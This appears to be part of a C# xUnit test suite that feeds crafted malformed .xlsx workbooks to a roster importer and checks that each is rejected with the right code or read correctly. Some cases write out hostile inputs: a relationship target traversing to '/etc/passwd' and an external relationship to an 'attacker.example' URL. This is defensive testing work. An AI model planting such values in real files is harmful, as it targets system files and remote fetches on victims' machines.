        yield return ("only hidden sheets", Rejected("NO_SHEET", () => new XlsxBuilder()
            .Sheet("Roster", s => s.Hidden().Row(Header).Row(Ada)).Sheet("Data", s => s.Hidden(veryHidden: true).Row(Header).Row(Ada)).Build()));
        // The workbook lists a sheet whose part is not in the package: the package is damaged (NO_SHEET's
        // "unhide the roster sheet" would send the user looking for a hidden sheet).
        yield return ("workbook missing its sheet part", Rejected("ZIP_CORRUPT", () => Book(Ada).Drop(Sheet1).Build()));
        // The workbook's shared-strings relationship names a part that is not in the package.
        yield return ("workbook missing its shared-strings part", Rejected("ZIP_CORRUPT", () => Book(Ada).Drop(SharedStrings).Build()));
        // The sheet's r:id names no relationship.
        yield return ("relationship id pointing nowhere", Rejected("NO_SHEET", () => Book(Ada).Edit(WorkbookXml, xml => xml.Replace("r:id=\"rId1\"", "r:id=\"rId99\"")).Build()));
        // The sheet has no r:id at all.
        yield return ("sheet without r:id", Rejected("NO_SHEET", () => Book(Ada).Edit(WorkbookXml, xml => xml.Replace(" r:id=\"rId1\"", "")).Build()));
        // The worksheet relationship targets a path outside the package (it resolves to /etc/passwd inside the
        // package, which is not there: a missing part).
        yield return ("relationship target escaping the package", Rejected("ZIP_CORRUPT", () => Book(Ada)
            .Edit(WorkbookRels, xml => xml.Replace("Target=\"worksheets/sheet1.xml\"", "Target=\"../../../../etc/passwd\"")).Build()));
        // The worksheet relationship is external (a URL).
        yield return ("external worksheet relationship", Rejected("NO_SHEET", () => Book(Ada)
            .Edit(WorkbookRels, xml => xml.Replace("Target=\"worksheets/sheet1.xml\"", "Target=\"http://attacker.example/sheet1.xml\" TargetMode=\"External\"")).Build()));
        // No <sheets> element in the workbook.
        yield return ("workbook without sheets", Rejected("NO_SHEET", () => Book(Ada).Edit(WorkbookXml, xml => xml[..xml.IndexOf("<sheets>", StringComparison.Ordinal)] + "</workbook>").Build()));
        // A date1904 workbook (old Mac Excel): the same calendar dates, from serials 1,462 days smaller.
        yield return ("date1904 workbook", Read(() => Book(["E1", "Ada", "dba", Cell.Date(March31, date1904: true)]).Date1904().Build(), [],
            r => Assert.Equal(March31, E1(r).LastTraining)));
        // Excel's "Strict Open XML Spreadsheet" save format: the same workbook in the ISO 29500 strict namespaces.
        // It has one visible sheet; it must be read (or refused as an unsupported format) — not reported as having
        // no visible worksheet.
        yield return ("Strict Open XML workbook", Read(() => Strict(Book(Ada)).Build(), [], r => Assert.Equal(March31, E1(r).LastTraining)));
        // No styles part: date cells are bare serial numbers, which the date column still reads.
        yield return ("no styles part", Read(() => Book(Ada).WithoutStyles().Build(), [], r => Assert.Equal(March31, E1(r).LastTraining)));
    }

    /// <summary>Rewrites a workbook in the Strict (ISO/IEC 29500 strict) namespaces and relationship types, as Excel saves it.</summary>
    private static XlsxBuilder Strict(XlsxBuilder book)
    {
        foreach (var part in new[] { WorkbookXml, Sheet1, SharedStrings, "xl/styles.xml" })
            book.Edit(part, xml => xml.Replace(XlsxBuilder.MainNs, "http://purl.oclc.org/ooxml/spreadsheetml/main").Replace(XlsxBuilder.RelNs, "http://purl.oclc.org/ooxml/officeDocument/relationships"));
        foreach (var part in new[] { "_rels/.rels", WorkbookRels })
            book.Edit(part, xml => xml.Replace(XlsxBuilder.RelNs + "/", "http://purl.oclc.org/ooxml/officeDocument/relationships/"));
        return book;
    }

    private static byte[] XlsxRoster(Action<SheetBuilder> build) => new XlsxBuilder().Sheet("Roster", build).Build();

    public static IEnumerable<TheoryDataRow<string>> Corpus =>
        Cases().Select(c => new TheoryDataRow<string>(c.Name));

    [Fact]
    public void Corpus_HasAtLeastFortyDistinctFiles()
    {
        var names = Cases().Select(c => c.Name).ToList();
        Assert.True(names.Count >= 40, $"{names.Count} cases");
        Assert.Equal(names.Count, names.Distinct().Count());
    }

    [Theory(Timeout = 30_000)]
    [MemberData(nameof(Corpus))]
    public async Task HostileFile_IsRejectedOrReadAsExpected_NeverThrows(string name)
    {
        var expected = Cases().Single(c => c.Name == name).Case;
        var result = await Task.Run(() =>
        {
            try
            {
                return Import.Bytes(expected.Build(), limits: expected.Limits);
            }
            catch (Exception e)
            {
                Assert.Fail($"{name}: {e.GetType().FullName} escaped the reader: {e.Message}\n{e.StackTrace}");
                throw;
            }
        }, TestContext.Current.CancellationToken);

        if (expected.Rejection is { } code)
        {
            if (result.Success)
                Assert.Fail($"{name}: expected {code}, but the file was read with warnings [{string.Join(", ", result.Roster!.Warnings.Select(w => w.Code))}]");
            Assert.True(code == result.Rejection!.Code, $"{name}: expected {code}, got {result.Rejection.Code}: {result.Rejection}");
            Assert.False(string.IsNullOrWhiteSpace(result.Rejection.Message));
            Assert.False(string.IsNullOrWhiteSpace(result.Rejection.Hint));
            if (expected.RejectionRow is { } row) Assert.Equal(row, result.Rejection.Row);
            if (expected.Saying is { } saying) Assert.Contains(saying, result.Rejection.ToString(), StringComparison.OrdinalIgnoreCase);
        }
        else
        {
            Assert.True(result.Success, $"{name}: expected to be read, got {result.Rejection?.Code}: {result.Rejection}");
            var roster = result.Roster!;
            Assert.True(expected.Warnings!.SequenceEqual(roster.Warnings.Select(w => w.Code)),
                $"{name}: expected warnings [{string.Join(", ", expected.Warnings!)}], got [{string.Join(", ", roster.Warnings.Select(w => $"{w.Code} row {w.Row} {w.Column}: {w.Message}"))}]");
            Assert.All(roster.Warnings, w => Assert.Equal("Roster", w.Sheet));
            expected.Check?.Invoke(roster);
        }
    }
}
